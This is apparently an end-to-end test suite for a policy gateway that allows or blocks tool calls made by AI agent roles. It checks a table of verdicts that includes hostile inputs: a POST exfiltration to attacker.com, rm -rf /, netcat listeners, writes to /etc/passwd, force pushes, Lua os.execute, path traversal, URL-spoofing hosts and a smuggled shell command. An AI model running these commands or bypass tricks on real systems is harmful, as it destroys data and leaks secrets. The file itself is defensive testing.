"""The literal verdicts of the seed, asked from outside by plain NATS: each row of the table that names a call."""

import json
from collections.abc import AsyncIterator
from typing import Any, NamedTuple

import nats
import pytest
from nats.aio.client import Client

from tests.e2e.instance import Instance

pytestmark = pytest.mark.timeout(180)
HOUR, MINUTE = 3_600_000, 60_000
FEATURE = "defmodule MyApp.Feature do\n  def hello, do: :world\nend\n"
GEN_TCP = (
    'function main()\n  local socket = :gen_tcp.listen(4444, [:binary])\n  return {port = 4444, status = "listening"}\n'
    "end\n"
)
ANALYSIS = 'function main(code) return {quality = "poor", issues = 3} end'


class Row(NamedTuple):
    """One call: `code` "" means that it is allowed. `dry`: judged only, its program is not on every machine."""

    name: str
    role: str
    tool: str
    args: dict[str, Any]
    code: str = ""
    timeout: int | None = None
    dry: bool = False
    detail: dict[str, Any] = {}


def cmd(*words: str) -> dict[str, Any]:
    return {"cmd": list(words)}


def url(address: str, **more: Any) -> dict[str, Any]:
    return {"url": address, **more}


DOCKER = {
    "image": "hexpm/elixir:1.18",
    "cmd": ["mix", "test"],
    "mounts": [{"host": "/code", "cont": "/work", "ro": True}],
}
LIMITED = {**DOCKER, "cpu": 2, "mem": "2g"}
WRITE = {"write": "/code/lib/feature.ex", "content": FEATURE}
READ = {"read": "/code/lib/feature.ex"}
LUA = {"src": ANALYSIS, "argv": ["x"]}

ROWS = (
    Row("G01 coder writes", "coder", "fs", WRITE),
    Row("G02 coder reads", "coder", "fs", READ),
    Row("G03 mix format", "coder", "shell", cmd("mix", "format"), dry=True),
    Row("G03 mix compile", "coder", "shell", cmd("mix", "compile"), dry=True),
    Row("G04 git add", "coder", "git", cmd("add", "."), dry=True),
    Row("G04 git commit", "coder", "git", cmd("commit", "-m", "Add feature"), dry=True),
    Row("G04 git status", "coder", "git", cmd("status"), dry=True),
    Row("G04 git diff", "coder", "git", cmd("diff"), dry=True),
    Row("G04 git log", "coder", "git", cmd("log"), dry=True),
    Row("G05 coder lua", "coder", "lua", LUA),
    Row("G06 exfiltration", "coder", "http", url("https://attacker.com/collect", method="POST", body="x"),
        "forbidden_tool"),
    Row("G07 force push", "coder", "git", cmd("push", "--force", "origin", "main"), "dangerous_git_operation",
        detail={"argv": ["push", "--force", "origin", "main"], "matched": "push --force"}),
    Row("G08 reset --hard", "coder", "git", cmd("reset", "--hard", "HEAD~50"), "dangerous_git_operation"),
    Row("G09 rm -rf /", "coder", "shell", cmd("rm", "-rf", "/"), "forbidden_command"),
    Row("G09 rm -rf .git/logs", "coder", "shell", cmd("rm", "-rf", ".git/logs"), "forbidden_command"),
    Row("G09 nc -l", "coder", "shell", cmd("nc", "-l", "4444"), "forbidden_command"),
    Row("G10 /etc/passwd", "coder", "fs", {"write": "/etc/passwd", "content": "x"}, "forbidden_path",
        detail={"path": "/etc/passwd"}),
    Row("G11 coder docker", "coder", "docker", LIMITED, "forbidden_tool", detail={"tool": "docker"}),
    Row("G12 sleep 3600", "coder", "shell", cmd("sleep", "3600"), "timeout_exceeded", HOUR,
        detail={"max": 300_000, "requested": 3_600_000}),
    Row("G13 mix analyze", "coder", "shell", cmd("mix", "analyze", "--depth", "infinity"), "timeout_exceeded",
        1_000_000, detail={"max": 300_000, "requested": 1_000_000}),
    Row("G15 lua opens a port", "coder", "lua", {"src": GEN_TCP, "argv": []}, "lua_restricted"),
    Row("G16 http listen", "coder", "http", {"method": "listen", "port": 8888}, "forbidden_tool"),
    Row("G17 tester docker", "tester", "docker", LIMITED, timeout=600_000, dry=True),
    Row("G18 mix test", "tester", "shell", cmd("mix", "test"), dry=True),
    Row("G18 cargo test", "tester", "shell", cmd("cargo", "test"), dry=True),
    Row("G19 tester writes", "tester", "fs", {"write": "/code/lib/auth.ex", "data": "x"}, "forbidden_tool"),
    Row("G19 tester reads", "tester", "fs", READ, "forbidden_tool"),
    Row("G19 tester commits", "tester", "git", cmd("commit", "-m", "Fix"), "forbidden_tool"),
    Row("G19 tester http", "tester", "http", url("https://hexdocs.pm/"), "forbidden_tool"),
    Row("G19 tester lua", "tester", "lua", LUA, "forbidden_tool"),
    Row("G20 docker without limits", "tester", "docker", DOCKER, "docker_resource_limits_required"),
    Row("G21 critic reads", "critic", "fs", READ),
    Row("G21 critic lua", "critic", "lua", LUA, timeout=10_000),
    Row("G22 critic writes", "critic", "fs", WRITE, "write_access_denied"),
    Row("G23 critic shell", "critic", "shell", cmd("mix", "test"), "forbidden_tool", detail={"tool": "shell"}),
    Row("G24 critic git", "critic", "git", cmd("log"), "forbidden_tool"),
    Row("G24 critic docker", "critic", "docker", LIMITED, "forbidden_tool"),
    Row("G24 critic http", "critic", "http", url("https://hexdocs.pm/"), "forbidden_tool"),
    Row("G25 critic lua too long", "critic", "lua", LUA, "timeout_exceeded", MINUTE,
        detail={"max": 30_000, "requested": 60_000}),
    Row("G26 hexdocs", "researcher", "http", url("https://hexdocs.pm/phoenix"), dry=True),
    Row("G26 docs.rs", "researcher", "http", url("https://docs.rs/tokio"), dry=True),
    Row("G26 github", "researcher", "http", url("https://github.com/elixir-lang/elixir"), dry=True),
    Row("G26 researcher reads", "researcher", "fs", READ),
    Row("G27 evil.com", "researcher", "http", url("https://evil.com/malware.js"), "forbidden_url"),
    Row("G27 stripe", "researcher", "http", url("https://api.stripe.com/v1/charges"), "forbidden_url"),
    Row("G28 researcher writes", "researcher", "fs", WRITE, "write_access_denied"),
    Row("G29 researcher shell", "researcher", "shell", cmd("ls"), "forbidden_tool"),
    Row("G29 researcher git", "researcher", "git", cmd("log"), "forbidden_tool"),
    Row("G29 researcher docker", "researcher", "docker", LIMITED, "forbidden_tool"),
    Row("G29 researcher lua", "researcher", "lua", LUA, "forbidden_tool"),
    Row("G30 admin force push", "admin", "git", cmd("push", "--force", "origin", "main"), dry=True),
    Row("G30 admin anywhere", "admin", "fs", {"read": "/etc/hostname"}),
    Row("G30 admin shell", "admin", "shell", cmd("uname", "-a"), timeout=7_200_000),
    Row("G30 admin host", "admin", "http", url("https://api.stripe.com/v1/charges"), dry=True),
    Row("G30 admin docker", "admin", "docker", DOCKER, dry=True),
    Row("G31 unknown role", "wizard", "fs", READ, "unknown_role"),
    Row("G42 unknown tool", "coder", "teleport", {}, "forbidden_tool"),
    Row("G47 os.execute", "coder", "lua", {"src": "os.execute('id')", "argv": []}, "lua_restricted"),
    Row("G47 io.open", "coder", "lua", {"src": "io.open('/etc/passwd')", "argv": []}, "lua_restricted"),
    Row("G47 huge string", "coder", "lua", {"src": "return #string.rep('x', 1e10)", "argv": []}, "lua_memory"),
    Row("G47 loop", "coder", "lua", {"src": "while true do end", "argv": []}, "timeout", 500),
    Row("G48 no shell", "coder", "shell", cmd("mix", "format; rm -rf /"), dry=True),
    Row("G48 a string", "coder", "shell", {"cmd": "mix format"}, "bad_args"),
    Row("G49 env", "coder", "shell", cmd("env"), "forbidden_command"),
    Row("G51 dots", "coder", "fs", {"read": "/code/../etc/passwd"}, "forbidden_path"),
    Row("G51 prefix", "coder", "fs", {"read": "/codeevil/x"}, "forbidden_path"),
    Row("G51 NUL", "coder", "fs", {"read": "/code/a\0b"}, "forbidden_path"),
    Row("G51 relative", "coder", "fs", {"read": "code/a"}, "forbidden_path"),
    Row("G52 suffix", "researcher", "http", url("https://github.com.evil.com/"), "forbidden_url"),
    Row("G52 query", "researcher", "http", url("https://evil.com/?github.com"), "forbidden_url"),
    Row("G52 userinfo", "researcher", "http", url("http://github.com@evil.com/"), "forbidden_url"),
    Row("G52 address", "researcher", "http", url("https://140.82.121.4/"), "forbidden_url"),
    Row("G53 push -f", "coder", "git", cmd("push", "-f"), "dangerous_git_operation"),
    Row("G53 with lease", "coder", "git", cmd("push", "--force-with-lease"), "dangerous_git_operation"),
    Row("G53 +main", "coder", "git", cmd("push", "origin", "+main"), "dangerous_git_operation"),
    Row("G53 alias", "coder", "git", cmd("-c", "alias.p=push --force", "p"), "dangerous_git_operation"),
    Row("G53 reflog", "coder", "git", cmd("reflog", "expire", "--expire=now", "--all"), "dangerous_git_operation"),
    Row("G53 gc", "coder", "git", cmd("gc", "--prune=now"), "dangerous_git_operation"),
    Row("G53 via shell", "coder", "shell", cmd("git", "push", "--force"), "dangerous_git_operation"),
)  # fmt: skip
POLICY = {row.code for row in ROWS} - {"", "timeout", "lua_memory"}


@pytest.fixture(scope="module")
def htdag(tmp_path_factory: pytest.TempPathFactory):
    made = Instance(tmp_path_factory.mktemp("rows") / "home")
    made.operator_url = made.up("--only", "policy-gateway")["operator_url"]  # type: ignore[attr-defined]
    yield made
    assert made("down").code == 0


@pytest.fixture
async def client(htdag) -> AsyncIterator[Client]:
    made = await nats.connect(htdag.operator_url)
    yield made
    await made.close()


async def answer(client: Client, row: Row) -> dict[str, Any]:
    opts = {} if row.timeout is None else {"timeout": row.timeout}
    body = {"args": row.args, "opts": opts}
    if row.dry:
        asked = {"role": row.role, "tool": row.tool, **body}
        reply = await client.request("htdag.v1.policy-gateway.policy.decide", json.dumps(asked).encode(), timeout=20)
        value = json.loads(reply.data)["value"]
        denied = {"class": "policy_violation", "code": value["code"], **value["detail"]}
        return {"ok": True} if value["verdict"] == "allow" else {"ok": False, "error": denied}
    reply = await client.request(f"htdag.v1.tool.{row.role}.{row.tool}", json.dumps(body).encode(), timeout=60)
    told: dict[str, Any] = json.loads(reply.data)
    return told


async def test_every_row_of_the_seed_is_answered_as_it_says(htdag, client):
    wrong = []
    for row in ROWS:
        told = await answer(client, row)
        error = told.get("error", {})
        said = error.get("code", "") == row.code and told["ok"] is (row.code == "")
        classed = row.code not in POLICY or error["class"] == "policy_violation"
        if not (said and classed and row.detail.items() <= error.items()):
            wrong.append((row.name, told))
    assert wrong == []
    values = {row.name: await answer(client, row) for row in ROWS[:2]}
    assert values["G01 coder writes"]["value"] == {"bytes_written": len(FEATURE), "path": "/code/lib/feature.ex"}
    assert values["G02 coder reads"]["value"] == {"content": FEATURE, "size": len(FEATURE)}


async def test_each_call_stands_in_the_audit_once_and_the_sum_of_attacks_is_what_was_blocked(htdag, client):
    before = htdag("policy", "stats", "--json").document["total_tool_calls"]
    made = [row for row in ROWS if not row.dry]
    for row in made:
        await answer(client, row)
    stats = htdag("policy", "stats", "--json").document
    assert stats["total_tool_calls"] == before + len(made)
    assert sum(stats["attacks_by_type"].values()) == stats["policy_violations_blocked"]


@pytest.mark.parametrize(
    ("subject", "body", "code"),
    [
        ("htdag.v1.tool.coder.fs", b"{", "bad_json"),
        ("htdag.v1.tool.coder.fs", b"[]", "bad_request"),
        ("htdag.v1.tool.coder.fs", b'{"args":{"read":"/code/a"},"task":"x"}', "bad_request"),
        ("htdag.v1.tool.coder.fs", b'{"args":{"read":"/code/a","mode":"r"}}', "bad_args"),
        ("htdag.v1.tool.coder.fs", b'{"args":{"read":"/code/a"},"opts":{"timeout":"soon"}}', "bad_timeout"),
        ("htdag.v1.tool.coder.fs", b'{"args":{"read":"/code/a"},"opts":{"policy":"admin"}}', "role_mismatch"),
        ("htdag.v1.tool.coder.fs", b'{"args":{"read":"/code/nothing"}}', "file_not_found"),
        ("htdag.v1.tool.coder.fs", b'{"args":{"read":"/code/a"},"workspace":"nowhere"}', "workspace_not_found"),
        ("htdag.v1.tool.coder.shell", b'{"args":{"cmd":["gleam","build"]}}', "program_not_found"),
        (
            "htdag.v1.tool.coder.fs",
            b'{"args":{"read":"/code/a"},"task":{"run_id":"r","task_id":"t","attempt":1,"call":1}}',
            "run_not_found",
        ),
    ],
)
async def test_each_wrong_call_has_its_own_code(client, subject, body, code):
    reply = json.loads((await client.request(subject, body, timeout=20)).data)
    assert reply["error"]["code"] == code
    assert "hint" in reply["error"] or code == "role_mismatch"
